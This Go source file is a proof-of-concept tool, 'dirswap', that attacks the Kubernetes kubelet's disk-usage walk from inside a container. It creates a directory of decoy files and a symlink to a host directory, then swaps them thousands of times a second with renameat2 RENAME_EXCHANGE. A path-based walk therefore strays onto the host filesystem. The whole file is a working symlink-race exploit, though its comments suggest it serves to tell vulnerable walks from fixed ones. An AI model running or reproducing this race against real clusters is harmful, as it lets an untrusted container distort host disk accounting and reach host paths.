// Command dirswap attacks the kubelet's disk walk from inside a container:
// in the volume it is given it makes a directory "sub" of small files, one
// of them named "zz-big", and a symlink to a host directory that holds a
// big file of that name, then exchanges the two (renameat2
// RENAME_EXCHANGE) until it is killed. A walk that resolves sub/... by
// path lands on the host now and then; one that holds the directory's fd
// never does. The name sorts after the others, so a path walk, which
// sorts, reaches it a while after it listed sub, whatever sub was then.
//
// Usage: dirswap VOLUME HOSTDIR
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

const (
	// files in sub: enough that a walk spends a while inside it.
	files = 500
	// bigName is the name of the host's big file, and of a small one in sub.
	bigName = "zz-big"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: dirswap VOLUME HOSTDIR")
		os.Exit(2)
	}
	err := run(os.Args[1], os.Args[2])
	fmt.Fprintln(os.Stderr, "dirswap:", err)
	os.Exit(1)
}

// run sets the volume up and swaps until an error stops it.
func run(vol, host string) error {
	sub, link := filepath.Join(vol, "sub"), filepath.Join(vol, "link")
	if err := os.Mkdir(sub, 0o755); err != nil {
		return err
	}
	for i := 0; i < files; i++ {
		if err := os.WriteFile(filepath.Join(sub, "f"+strconv.Itoa(i)), []byte("x"), 0o644); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(sub, bigName), []byte("x"), 0o644); err != nil {
		return err
	}
	if err := os.Symlink(host, link); err != nil {
		return err
	}
	fmt.Println("swapping", sub, "with a symlink to", host)
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, sub, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange: %w", err)
		}
		// Thousands of swaps a second, without taking a whole core.
		time.Sleep(100 * time.Microsecond)
	}
}
